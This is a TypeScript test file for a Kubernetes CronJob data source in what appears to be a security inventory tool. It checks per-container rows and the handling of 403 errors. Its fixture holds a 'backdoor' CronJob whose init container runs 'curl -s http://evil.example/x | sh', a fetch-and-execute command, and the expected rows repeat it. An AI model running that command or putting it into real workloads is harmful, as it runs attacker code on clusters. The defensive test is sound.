import { cronJobsSource } from '../../shared/sources/cronjobs/source.js';
import type { KubeObject } from '../../shared/simulator/kube/scenario.js';
import { collect, context, namespace, startCluster } from './helpers.js';

function cronJob(ns: string, name: string, podSpec: Record<string, unknown>, extra: Record<string, unknown> = {}, status: Record<string, unknown> = {}): KubeObject {
  return {
    apiVersion: 'batch/v1',
    kind: 'CronJob',
    metadata: { name, namespace: ns, creationTimestamp: '2026-02-03T00:00:00Z' },
    spec: { schedule: '*/5 * * * *', jobTemplate: { spec: { template: { spec: podSpec } } }, ...extra },
    status,
  };
}

describe('cronjobs source', () => {
  test('one row per container, init containers too, with the exact argv', async () => {
    const objects: KubeObject[] = [
      namespace('ops'),
      cronJob(
        'ops',
        'backdoor',
        {
          serviceAccountName: 'builder',
          initContainers: [{ name: 'fetch', image: 'evil.example/tools:latest', command: ['sh', '-c'], args: ['curl -s http://evil.example/x | sh'] }],
          containers: [{ name: 'run', image: 'alpine:3.19' }],
        },
        { suspend: true, timeZone: 'Etc/UTC' },
        { lastScheduleTime: '2026-02-28T23:55:00Z' },
      ),
      cronJob('ops', 'plain', { containers: [{ name: 'job', image: 'busybox', command: ['echo', 'hello world'] }] }),
    ];
    const { cluster, kc } = await startCluster({ name: 'cron', objects }, { maxPageSize: 1 });
    try {
      const out = await collect(cronJobsSource, context(kc));
      expect(out.gaps).toEqual([]);
      expect(out.raws).toHaveLength(2);
      expect(out.rows).toHaveLength(3);
      const fetch = out.rows.find((r) => r['container_name'] === 'fetch')!;
      expect(fetch).toEqual({
        TimeGenerated: '2026-02-03T00:00:00.000Z',
        cronjob_name: 'backdoor',
        namespace: 'ops',
        schedule: '*/5 * * * *',
        suspend: true,
        last_schedule_time: '2026-02-28T23:55:00.000Z',
        service_account: 'builder',
        uid: expect.any(String),
        time_zone: 'Etc/UTC',
        container_name: 'fetch',
        image: 'evil.example/tools:latest',
        command: 'sh -c',
        args: 'curl -s http://evil.example/x | sh',
        command_json: '["sh","-c"]',
        args_json: '["curl -s http://evil.example/x | sh"]',
        container_type: 'init',
      });
      expect(out.rows.find((r) => r['container_name'] === 'run')).toMatchObject({ container_type: 'container', command: '', args: '', command_json: '[]' });
      expect(out.rows.find((r) => r['cronjob_name'] === 'plain')).toMatchObject({
        suspend: false,
        last_schedule_time: null,
        service_account: 'default',
        command: 'echo hello world',
        command_json: '["echo","hello world"]',
      });
    } finally {
      await cluster.stop();
    }
  });

  test('403 is a gap', async () => {
    const { cluster, kc } = await startCluster({ name: 'cron', objects: [namespace('ops')], forbidden: ['batch/cronjobs'] });
    try {
      const out = await collect(cronJobsSource, context(kc));
      expect(out.gaps).toEqual([expect.objectContaining({ source: 'cronjobs', reason: 'forbidden', resource: 'cronjobs' })]);
    } finally {
      await cluster.stop();
    }
  });
});
